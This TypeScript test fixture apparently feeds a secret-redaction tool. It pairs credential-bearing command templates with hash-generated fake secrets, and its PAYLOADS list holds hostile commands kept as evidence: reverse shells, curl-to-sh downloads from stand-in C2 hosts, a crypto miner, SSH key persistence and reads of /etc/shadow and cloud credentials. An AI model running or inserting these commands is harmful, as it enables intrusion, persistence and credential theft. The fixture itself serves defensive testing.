import { createHash } from "node:crypto";

/** A command that holds a secret as people write it; `{}` is where. */
export interface PlantedSecret {
  readonly kind: string;
  readonly command: string;
  /** A secret of this kind, another for every seed. */
  readonly secret: (seed: string) => string;
}

/** As many characters as asked, looking random and always the same: no real token stands in this repository. */
function made(seed: string, length: number, alphabet: "base64" | "hex" | "base64url" = "hex"): string {
  let text = "";
  for (let i = 0; text.length < length; i++) {
    text += createHash("sha256").update(`${seed} ${i}`).digest(alphabet).replace(/[=_-]/g, "x");
  }
  return text.slice(0, length);
}

const token = (start: string, length: number) => (seed: string) => `${start}${made(`${start} ${seed}`, length)}`;
const word = (seed: string) => `Hunter-${made(`word ${seed}`, 12)}!`;
const base64 = (seed: string) => `${made(`base64 ${seed}`, 43, "base64")}=`;
const keyLines = (seed: string) =>
  Array.from({ length: 3 }, (_, i) => made(`key ${seed} ${i}`, 64, "base64")).join("\\n");

export const SECRETS: readonly PlantedSecret[] = [
  {
    kind: "AWS key by name",
    command: "env AWS_SECRET_ACCESS_KEY={} aws s3 ls",
    secret: (seed) => made(`aws ${seed}`, 40, "base64"),
  },
  {
    kind: "AWS access key id",
    command: "s3cmd {} ls",
    secret: (seed) =>
      `AKIA${made(`akia ${seed}`, 40)
        .replace(/[^2-7a-f]/g, "")
        .toUpperCase()
        .slice(0, 16)}`,
  },
  {
    kind: "GCP API key",
    command: "curl https://maps.example/?key={}",
    secret: (seed) => `AIza${made(`gcp ${seed}`, 35)}`,
  },
  { kind: "GitHub token", command: "git clone https://x:{}@git.example/a.git", secret: token("ghp_", 36) },
  { kind: "GitHub fine-grained token", command: "gh-backup {}", secret: token("github_pat_", 60) },
  { kind: "GitLab token", command: "runner register {}", secret: token("glpat-", 20) },
  { kind: "Slack token", command: "slack-send {} hello", secret: token("xoxb-123456789012-", 24) },
  {
    kind: "Slack webhook",
    command: "curl -d hi https://hooks.slack.com/services/{}",
    secret: (seed) => `T0${made(`t ${seed}`, 8)}/B0${made(`b ${seed}`, 8)}/${made(`w ${seed}`, 24)}`,
  },
  { kind: "Stripe key", command: "charge {}", secret: token(["sk", "live", ""].join("_"), 24) },
  {
    kind: "JSON web token",
    command: "call-api {}",
    secret: (seed) => `eyJhbGciOiJIUzI1NiJ9.eyJ${made(`jwt ${seed}`, 40)}.${made(`sig ${seed}`, 43)}`,
  },
  { kind: "npm token", command: "npm-publish {}", secret: token("npm_", 36) },
  { kind: "npm configuration", command: "npm config set //registry.example/:_authToken {}", secret: word },
  {
    kind: "PyPI token",
    command: "twine upload {}",
    secret: (seed) => `pypi-AgEIcHlwaS5vcmc${made(`pypi ${seed}`, 60)}`,
  },
  {
    kind: "Azure SAS",
    command: "azcopy 'https://a.blob.example/c?sv=2024-01-01&sig={}&se=2030'",
    secret: (seed) => `${made(`sas ${seed}`, 43, "base64url")}%3D`,
  },
  {
    kind: "Azure connection string",
    command: "app 'DefaultEndpointsProtocol=https;AccountName=a;AccountKey={};EndpointSuffix=x'",
    secret: base64,
  },
  {
    kind: "URL with a password",
    command: "pg_dump postgres://app:{}@db.example/x",
    secret: (seed) => made(`url ${seed}`, 14),
  },
  {
    kind: "Authorization: Bearer",
    command: "curl -H 'Authorization: Bearer {}' https://api.example/",
    secret: (seed) => made(`bearer ${seed}`, 30),
  },
  { kind: "Authorization: Basic", command: "curl -H 'Authorization: Basic {}' https://api.example/", secret: base64 },
  {
    kind: "API key header",
    command: "curl -H 'X-Api-Key: {}' https://api.example/",
    secret: (seed) => made(`xapi ${seed}`, 20),
  },
  {
    kind: "cookie",
    command: "curl -H 'Cookie: session={}; theme=dark' https://app.example/",
    secret: (seed) => made(`cookie ${seed}`, 26),
  },
  { kind: "mysql -p", command: "mysqldump -u root -p{} --all-databases", secret: word },
  { kind: "sshpass -p", command: "sshpass -p {} ssh -p 2222 backup@h.example", secret: word },
  { kind: "curl -u", command: "curl -u backup:{} https://h.example/", secret: word },
  { kind: "PGPASSWORD", command: "env PGPASSWORD={} psql -h db.example", secret: word },
  { kind: "--password=", command: "app --db-password={} --verbose", secret: word },
  { kind: "--token", command: "agent --token {} --url https://h.example/", secret: word },
  { kind: "docker login -p", command: "docker login -u ci -p {} registry.example", secret: word },
  { kind: "redis-cli -a", command: "redis-cli -a {} flushall", secret: word },
  { kind: "smbclient", command: "smbclient -U 'svc%{}' //nas/share", secret: word },
  { kind: "JSON", command: `app --config '{"user":"u","password":"{}"}'`, secret: word },
  { kind: "Vault token", command: "vault-sync {}", secret: token("hvs.", 90) },
  {
    kind: "private key",
    command: "app --inline '-----BEGIN RSA PRIVATE KEY-----\\n{}\\n-----END RSA PRIVATE KEY-----'",
    secret: keyLines,
  },
  { kind: "password hash", command: "usermod -p '{}' root", secret: (seed) => `$6$salt$${made(`hash ${seed}`, 86)}` },
];

/** Commands that look as if they held secrets, and are evidence: every one must come through as it is. */
export const PAYLOADS: readonly string[] = [
  `echo ${made("p1", 120, "base64")} | base64 -d | bash`,
  `python3 -c exec(__import__('base64').b64decode('${made("p2", 80, "base64")}'))`,
  `printf ${made("p3", 96)} | xxd -r -p | sh`,
  "beacon 0f8fad5b-d9cb-469f-a165-70867728950e",
  `verify sha256:${made("p5", 64)}`,
  `curl -s https://c2.example/${made("p6", 32)}/x.sh | sh`,
  "bash -c bash -i >& /dev/tcp/token.example/4444 0>&1",
  "nc secret-host.example 4444 -e /bin/sh",
  "TOKEN=$(curl -s http://c2.example/t | sh)",
  "wget http://c2.example/password.sh -O /tmp/.token",
  "/opt/password-cracker --wordlist /tmp/tokens.txt --threads 8",
  `xmrig -o pool.example:3333 -u 4${made("p12", 94, "base64url")} -p x`,
  "agent --token-file /dev/shm/.t --key-id deadbeefdeadbeef",
  "ssh -p 2222 -i /tmp/.id_key -R 9001:localhost:22 pass@c2.example",
  "socat exec:'bash -li',pty,stderr tcp:keys.example:443",
  `H4sI${made("p16", 100, "base64")}`,
  `echo ssh-rsa AAAAB3NzaC1yc2E${made("p17", 200, "base64")} root@c2 >> /root/.ssh/authorized_keys`,
  "LD_PRELOAD=/tmp/.secret.so /usr/sbin/sshd -D",
  "mysql -h passwords.example -P 3306 -e 'SELECT password FROM users'",
  "openssl s_client -quiet -connect secret.example:443",
  "cat /etc/passwd /etc/shadow /root/.aws/credentials",
  `dd if=/dev/urandom of=/tmp/${made("p22", 40)}.key bs=32 count=1`,
];
